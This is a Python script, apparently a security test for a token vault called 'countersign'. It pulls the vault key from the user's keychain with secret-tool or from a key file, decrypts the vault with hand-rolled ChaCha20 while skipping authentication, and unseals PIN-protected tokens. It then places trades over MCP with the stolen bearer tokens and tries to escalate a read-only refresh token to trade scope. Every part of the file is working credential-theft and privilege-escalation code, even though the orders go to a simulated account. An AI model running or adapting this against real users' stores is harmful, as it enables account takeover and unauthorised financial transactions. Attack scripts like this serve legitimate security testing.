#!/usr/bin/env python3
"""Opens the vault as any program of this user can, and trades with what lies open in it.

The key comes from the keychain (secret-tool) or from the key file; nothing is guessed. With a PIN, as one that was logged,
it opens the seal too.
    steal.py [VAULT] [--price P] [--widen] [--pin PIN]
"""
import base64, hashlib, hmac, json, os, struct, subprocess, sys, urllib.error, urllib.parse, urllib.request

URL = os.environ["COUNTERSIGN_URL"]
STATE = os.path.join(os.environ["COUNTERSIGN_HOME"], "state")


def tried(what, came):
    print(f"tried: {what} -> {came}", flush=True)


def hkdf(key, salt, info):
    pseudo = hmac.new(salt, key, hashlib.sha256).digest()
    return hmac.new(pseudo, info + b"\x01", hashlib.sha256).digest()


def quarter(x, a, b, c, d):
    for p, q, r, n in ((a, b, d, 16), (c, d, b, 12), (a, b, d, 8), (c, d, b, 7)):
        x[p] = (x[p] + x[q]) & 0xFFFFFFFF
        x[r] ^= x[p]
        x[r] = ((x[r] << n) | (x[r] >> (32 - n))) & 0xFFFFFFFF


def block(key, counter, nonce):
    """One block of ChaCha20 (RFC 8439 section 2.3)."""
    start = [0x61707865, 0x3320646E, 0x79622D32, 0x6B206574]
    start += list(struct.unpack("<8I", key)) + [counter] + list(struct.unpack("<3I", nonce))
    x = start[:]
    for _ in range(10):
        for where in ((0, 4, 8, 12), (1, 5, 9, 13), (2, 6, 10, 14), (3, 7, 11, 15)):
            quarter(x, *where)
        for where in ((0, 5, 10, 15), (1, 6, 11, 12), (2, 7, 8, 13), (3, 4, 9, 14)):
            quarter(x, *where)
    return struct.pack("<16I", *((a + b) & 0xFFFFFFFF for a, b in zip(x, start)))


def opened(key, header, nonce, sealed):
    """The plain text; the tag is not looked at, for a thief does not mind."""
    text = sealed[:-16]
    stream = b"".join(block(key, 1 + n, nonce) for n in range(len(text) // 64 + 1))
    return bytes(a ^ b for a, b in zip(text, stream))


def key_of(installation):
    file = os.path.join(STATE, "vault.key")
    if os.path.exists(file):
        tried("read the key file", "read")
        return open(file).read()
    name = "vault-" + installation.hex()
    told = subprocess.run(["secret-tool", "lookup", "service", "countersign", "username", name],
                          capture_output=True, text=True, timeout=20)
    tried("secret-tool lookup in the keychain", "read" if told.stdout else f"nothing ({told.stderr.strip()})")
    return told.stdout


def unsealed(sealed, stored, header, pin):
    """The tokens under the seal, for whoever has files, keychain and PIN."""
    from cryptography.hazmat.primitives.kdf.argon2 import Argon2id
    pad = lambda text: base64.b64decode(text + "=" * (-len(text) % 4))
    cost = sealed["cost"]
    stretched = Argon2id(salt=pad(sealed["salt"]), length=32, iterations=cost["passes"], lanes=1,
                         memory_cost=cost["memory_kib"]).derive(pin.encode())
    pepper = hkdf(stored, header[16:32], b"countersign pepper 1" + header[32:36])
    key = hkdf(stretched, pepper, b"countersign seal 2")
    return json.loads(opened(key, None, pad(sealed["nonce"]), pad(sealed["ciphertext"])))["tokens"]


def post(url, body, headers):
    request = urllib.request.Request(url, data=body, headers=headers)
    try:
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=20) as answer:
            return answer.status, dict(answer.headers), answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read().decode()


def trade(what, token, price):
    """The order, straight to the service, with this token."""
    headers = {"authorization": f"Bearer {token}", "content-type": "application/json",
               "accept": "application/json, text/event-stream", "mcp-protocol-version": "2025-06-18"}
    hello = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "thief", "version": "1"}}}
    status, told, _ = post(URL, json.dumps(hello).encode(), headers)
    if status != 200:
        return tried(what, f"HTTP {status} at the handshake")
    session = {key.lower(): value for key, value in told.items()}.get("mcp-session-id")
    if session:
        headers["mcp-session-id"] = session
    post(URL, b'{"jsonrpc":"2.0","method":"notifications/initialized"}', headers)
    order = {"account": "Sim101", "instrument": "MES 12-26", "side": "Buy", "type": "Limit", "limit_price": price,
             "quantity": 1, "tif": "Day"}
    call = {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "PlaceOrder", "arguments": order}}
    status, _, said = post(URL, json.dumps(call).encode(), headers)
    tried(what, f"HTTP {status} {' '.join(said.split())[:160]}")


def widen(grant, tokens, price):
    """The read grant's refresh token, with a wish for more."""
    for scope in ("mcp:trade", "mcp:read mcp:trade"):
        form = {"grant_type": "refresh_token", "refresh_token": tokens["refresh"], "scope": scope,
                "client_id": grant["registration"]["client_id"], "resource": grant["resource"]}
        status, _, said = post(grant["token_endpoint"], urllib.parse.urlencode(form).encode(),
                               {"content-type": "application/x-www-form-urlencoded"})
        tried(f"refresh the {grant['kind']} grant with scope {scope}", f"HTTP {status}")
        if status == 200:
            new = json.loads(said)
            tokens["refresh"] = new.get("refresh_token", tokens["refresh"])
            trade(f"order with what that gave ({new.get('scope')})", new["access_token"], price)


def main():
    words = sys.argv[1:]
    price = float(words[words.index("--price") + 1]) if "--price" in words else 4321.0
    vault = words[0] if words and not words[0].startswith("--") else os.path.join(STATE, "vault")
    whole = open(vault, "rb").read()
    header, sealed = whole[:48], whole[48:]
    installation, machine, nonce = header[16:32], header[32:36], header[36:48]
    text = key_of(installation).strip()
    stored = base64.b64decode(text + "=" * (-len(text) % 4))
    key = hkdf(stored, installation, b"countersign vault 1" + machine)
    contents = json.loads(opened(key, header, nonce, sealed))
    tried("open the vault", f"{len(contents['grants'])} grants")
    for grant in contents["grants"]:
        state = grant["state"]
        kind = grant["kind"].lower()
        if "open" not in state:
            tried(f"take the {kind} grant", next(iter(state)))
            if "sealed" in state and "--pin" in words:
                tokens = unsealed(state["sealed"], stored, header, words[words.index("--pin") + 1])
                trade("order with what lay under the seal", tokens["access"], price)
            continue
        tried(f"take the {kind} grant", "open")
        tokens = state["open"]["tokens"]
        if "--widen" in words and kind == "read":
            widen(grant, tokens, price)
        else:
            trade(f"order with the {kind} token", tokens["access"], price)


main()
